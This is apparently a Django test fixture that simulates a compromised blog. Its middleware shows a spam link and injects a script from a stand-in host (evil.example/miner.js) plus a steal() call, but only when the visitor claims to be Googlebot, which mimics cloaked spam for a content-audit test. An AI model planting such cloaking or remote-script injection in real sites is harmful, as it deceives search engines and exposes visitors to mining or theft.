"""
The site's URLs with a compromised post page: a middleware that adds a spam
link only when a search engine crawler asks, the way cloaked spam hides from
the people who run a site. Used by tests/test_audit_content.py through
override_settings(ROOT_URLCONF=...): the live server built its middleware
chain when it started, but it reads ROOT_URLCONF on every request.
"""

from django.urls import include, path
from django.utils.decorators import decorator_from_middleware
from django.utils.deprecation import MiddlewareMixin

from blog.views import PostDetailView

SPAM_URL = "https://cheap-pills.example/buy"
SCRIPT_URL = "https://evil.example/miner.js"


class CrawlerSpamMiddleware(MiddlewareMixin):
    def process_response(self, request, response):
        if "Googlebot" in request.headers.get("User-Agent", ""):
            response.render()
            response.content = response.content.replace(
                b"</article>", f'<a href="{SPAM_URL}">cheap pills</a></article>'.encode()
            ).replace(
                b"</body>",
                f'<script src="{SCRIPT_URL}"></script><script>steal()</script></body>'.encode(),
            )
        return response


cloaked = decorator_from_middleware(CrawlerSpamMiddleware)(PostDetailView.as_view())

urlpatterns = [
    path("blog/<slug:slug>/", cloaked),
    path("", include("config.urls")),
]
